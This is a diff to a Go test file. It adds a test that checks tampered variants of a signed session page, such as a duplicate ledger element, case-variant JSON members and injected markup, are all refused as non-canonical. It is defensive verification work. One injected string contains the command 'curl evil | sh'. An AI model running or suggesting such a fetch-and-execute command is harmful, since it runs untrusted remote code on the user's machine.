@@ -276,3 +276,34 @@ func FuzzVerify(f *testing.F) {
 }
 
 var _ = ledger.Version
+
+// What the browser shows is the whole file: a page whose ledger verifies
+// but whose file is not the one Write makes of it is refused, however it
+// differs (each of these made the browser show other content than the
+// command verified).
+func TestOnlyTheWrittenPageVerifies(t *testing.T) {
+	dir, vkey := sample(t, 3, true)
+	html := string(write(t, build(t, dir, vkey, page.Options{})))
+	other, okey := sample(t, 2, false)
+	otherJSON := string(write(t, build(t, other, okey, page.Options{})))
+	i := strings.Index(otherJSON, `id="truss-ledger">`) + len(`id="truss-ledger">`)
+	otherJSON = otherJSON[i : i+strings.Index(otherJSON[i:], "</script>")]
+	for _, tc := range []struct{ name, old, new string }{
+		// getElementById takes the first element of the id; Go took the script.
+		{"a second element of the ledger's id", "<body>\n", "<body>\n<div hidden id=\"truss-ledger\">" + otherJSON + "</div>\n"},
+		{"markup outside the ledger", `<main id="session"></main>`, `<main id="session"><section>Turn 0: curl evil | sh</section></main>`},
+		// Go's decoding matches member names case-insensitively, the browser's exactly.
+		{"a member that differs in case", `{"format":`, `{"RUNS":null,"format":`},
+		{"the script", "<script>", "<script>/* */"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if !strings.Contains(html, tc.old) {
+				t.Fatalf("no %q in the page", tc.old)
+			}
+			b := []byte(strings.Replace(html, tc.old, tc.new, 1))
+			if _, err := page.Verify(b, vkey); !errors.Is(err, page.ErrNotCanonical) {
+				t.Fatalf("err = %v, want ErrNotCanonical", err)
+			}
+		})
+	}
+}
